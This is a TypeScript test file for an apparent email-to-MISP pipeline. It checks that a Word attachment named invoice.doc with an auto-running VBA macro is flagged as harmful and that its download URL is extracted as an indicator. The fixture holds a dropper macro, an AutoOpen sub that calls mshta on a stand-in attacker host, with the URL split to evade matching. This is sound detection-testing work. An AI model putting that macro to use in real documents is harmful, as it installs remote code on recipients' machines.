import { expect, test } from 'vitest';
import { draftFromMail } from '#core/pipeline.ts';
import { aCompoundFile } from './writers/compound-file.ts';
import { vbaStreams } from './writers/vba.ts';

const DROPPER = 'Sub AutoOpen()\r\n  Shell "mshta http" & "://loader.evil-host.com/a.hta"\r\nEnd Sub\r\n';

test('a document with harmful macros is told of in the draft and in MISP, and what it loads from is an indicator', async () => {
  const document = aCompoundFile(vbaStreams({ Module1: DROPPER }, 'Macros/'));
  const mail = `From: a@spam-sender.net\r\nContent-Type: application/msword; name=invoice.doc\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(document).toString('base64')}\r\n`;
  const { event, notices } = await draftFromMail(Buffer.from(mail));
  expect(notices).toMatchObject([{ code: 'file_harmful', details: { file: 'invoice.doc', names: 'AutoOpen, Shell, mshta' } }]);
  expect(event.Object.find(({ name }) => name === 'file')?.comment).toBe(
    'runs by itself and starts, writes or loads something (AutoOpen, Shell, mshta)',
  );
  expect(event.Attribute).toContainEqual(expect.objectContaining({ type: 'url', value: 'http://loader.evil-host.com/a.hta' }));
  const asMailToMisp = await draftFromMail(Buffer.from(mail), { asMailToMisp: true });
  expect(asMailToMisp.event.Object.find(({ name }) => name === 'file')?.comment).toBeUndefined();
});
